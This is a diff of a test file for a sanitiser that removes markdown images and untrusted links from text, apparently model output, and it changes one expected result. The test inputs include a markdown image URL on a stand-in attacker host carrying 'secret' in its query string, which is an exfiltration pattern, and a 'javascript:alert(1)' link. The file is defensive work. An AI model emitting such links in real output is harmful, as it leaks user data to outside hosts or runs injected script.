@@ -4,7 +4,7 @@ import { withoutEmbeds } from './without-embeds';
 const SOURCES = ['The form is at https://forms.example/leave (new).'];
 
 it.each([
-  ['![A chart](https://evil.example/p.png?q=secret) It is hot [1].', 'A chart It is hot [1].'],
+  ['![A chart](https://evil.example/p.png?q=secret) It is hot [1].', ' It is hot [1].'],
   ['See [the form](https://forms.example/leave) [1].', 'See the form (https://forms.example/leave) [1].'],
   ['See [the form](https://evil.example/leave) [1].', 'See the form [1].'],
   ['See [this](javascript:alert(1)) [1].', 'See this [1].'],
